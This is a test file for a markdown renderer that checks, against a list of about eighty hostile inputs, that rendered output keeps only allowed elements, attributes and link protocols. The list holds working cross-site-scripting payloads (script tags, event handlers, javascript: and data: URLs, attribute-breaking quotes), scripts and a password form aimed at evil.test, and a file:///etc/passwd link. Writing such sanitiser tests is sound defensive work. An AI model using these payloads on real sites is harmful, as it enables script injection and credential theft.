import { pictureMark, picturesOf } from './pictures';
import { renderMarkdown } from './render';

const words = { missing: '[no picture]' };
const picture = { id: 7, url: '/admin/admin/file/content?ticket=seven' };

/** What a text becomes, as an element. */
function render(source: string): HTMLElement {
  const element = document.createElement('div');
  element.innerHTML = renderMarkdown(source, [picture], words);
  return element;
}

const SCRIPT_URL = 'javascript:alert(1)';

/** Ways to get code, styles, fields or other sites' content into a page. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.test/x.swf">',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<style>*{background:url(//evil.test)}</style>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<base href="//evil.test/">',
  '<form action="//evil.test"><input name=password type=password><button>ok</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<div style="position:fixed;inset:0">x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '<x onclick=alert(1)>x</x>',
  '</div></main><script>alert(1)</script>',
  `[x](${SCRIPT_URL})`,
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1) )',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](irc://evil.test/room)',
  '[x](xmpp:evil@evil.test)',
  '[x](blob:https://evil.test/1)',
  '[x](view-source:https://evil.test)',
  `<${SCRIPT_URL}>`,
  '<data:text/html,x>',
  `[x]\n\n[x]: ${SCRIPT_URL}`,
  '[x]: data:text/html,x "y"\n\n[x]',
  `![x](${SCRIPT_URL})`,
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](https://evil.test/pixel.png)',
  '![x](//evil.test/pixel.png)',
  '![x](/admin/admin/site/logout)',
  '![x](#file-8)',
  '![x](#file-7"onerror="alert(1))',
  '![" onerror="alert(1)](#file-7)',
  '![x](#file-7 "\\" onerror=\\"alert(1)")',
  '[x](https://a.test" onmouseover="alert(1))',
  '[x](https://a.test "t\\" onmouseover=\\"alert(1)")',
  '[<img src=x onerror=alert(1)>](https://a.test)',
  '`<img src=x onerror=alert(1)>`',
  '```"><script>alert(1)</script>\nx\n```',
  '    <script>alert(1)</script>',
  '| a |\n| --- |\n| <img src=x onerror=alert(1)> |',
  '- [x] <input type=password>',
  '~~<script>alert(1)</script>~~',
  '[x](https://bank.test:pass@evil.test/login)',
  'https://bank.test@evil.test/login',
  'https://evil.test/"onmouseover="alert(1)',
  'www.evil.test/<script>alert(1)</script>',
  '# <svg onload=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
];

const ELEMENTS =
  'h3,h4,h5,h6,p,a,em,strong,del,code,pre,ul,ol,li,blockquote,hr,br,img,div,table,thead,tbody,tr,th,td';
const ATTRIBUTES: Record<string, readonly string[]> = {
  a: ['href', 'title', 'target', 'rel'],
  img: ['src', 'alt', 'title', 'loading'],
  div: ['class', 'tabindex'],
  code: ['class'],
  li: ['class'],
  ul: ['class'],
  ol: ['start'],
  th: ['align'],
  td: ['align'],
};

test('there are at least 60 hostile texts', () => {
  expect(new Set(HOSTILE).size).toBeGreaterThanOrEqual(60);
});

test.each(HOSTILE)('%j brings neither code nor fields nor content of other sites', (source) => {
  const body = render(source);
  for (const element of body.querySelectorAll('*')) {
    expect(element.matches(ELEMENTS)).toBe(true);
    const allowed = ATTRIBUTES[element.localName] ?? [];
    expect(element.getAttributeNames().filter((name) => !allowed.includes(name))).toEqual([]);
  }
  for (const image of body.querySelectorAll('img')) {
    expect(image.getAttribute('src')).toBe(picture.url);
  }
  for (const link of body.querySelectorAll('a')) {
    expect(link.protocol).toMatch(/^(?:https?|mailto):$/);
    expect(link.rel).toBe('noopener noreferrer');
    expect(link.username).toBe('');
  }
});

test('a text reads as it is marked, with its headings below that of the page', () => {
  const body = render(
    '# Pumps\n\n**Off** at *night*, ~~not~~ by `day`.\n\n- [x] first\n- [ ] second\n\n> so it is',
  );
  expect(body.querySelector('h3')).toHaveTextContent('Pumps');
  expect(body.querySelector('strong')).toHaveTextContent('Off');
  expect(body.querySelector('del')).toHaveTextContent('not');
  expect([...body.querySelectorAll('li')].map((item) => item.textContent?.trim())).toEqual([
    '☑ first',
    '☐ second',
  ]);
  expect(body.querySelector('blockquote')).toHaveTextContent('so it is');
});

test('a table has a frame that scrolls by the keyboard', () => {
  const frame = render('| a | b |\n| - | - |\n| 1 | 2 |').querySelector('.markdown-table');
  expect(frame).toHaveAttribute('tabindex', '0');
  expect(frame?.querySelectorAll('td')).toHaveLength(2);
});

test('links open beside the page, and a plain address is one', () => {
  const links = [...render('[pump](/user/web/org/user) https://a.test').querySelectorAll('a')];
  expect(links.map((link) => link.getAttribute('href'))).toEqual([
    '/user/web/org/user',
    'https://a.test',
  ]);
  for (const link of links) expect(link.target).toBe('_blank');
});

test('pictures of the text are shown, and a gap says what is missing', () => {
  const body = render(`${pictureMark('Pump [7]', 7)}\n\n![Valve](#file-9)`);
  expect(body.querySelector('img')).toHaveAttribute('src', picture.url);
  expect(body.querySelector('em')).toHaveTextContent('[no picture] Valve');
});

test.each(['1. ', '> ', '- ', '>', '* > '])('%j nested without end is shown as it is', (mark) => {
  const source = `x\n\n${mark.repeat(5000)}end`;
  expect(render(source).querySelector('pre')?.textContent).toBe(source);
});

test.each([
  [2500, 4900],
  [100, 4000],
  [300, 3000],
])('a table of %i columns and %i short rows is shown as it is', (columns, rows) => {
  const head = `|${'a|'.repeat(columns)}\n|${'-|'.repeat(columns)}\n`;
  const source = `${head}${'|\n'.repeat(rows)}`;
  expect(render(source).querySelector('pre')?.textContent).toBe(source);
  expect(
    render(`> ${head.replace('\n', '\n> ')}${'> |\n'.repeat(rows)}`).querySelector('td'),
  ).toBeNull();
});

test('a long table of few columns is a table', () => {
  const source = `|a|b|\n|-|-|\n${'|1|2|\n'.repeat(3000)}`;
  expect(render(source).querySelectorAll('td')).toHaveLength(6000);
});

test('the pictures that a text refers to are found', () => {
  expect(picturesOf(`${pictureMark('a', 3)} b ![c](#file-4 "d") ![e](<#file-5>)`)).toEqual([
    3, 4, 5,
  ]);
});
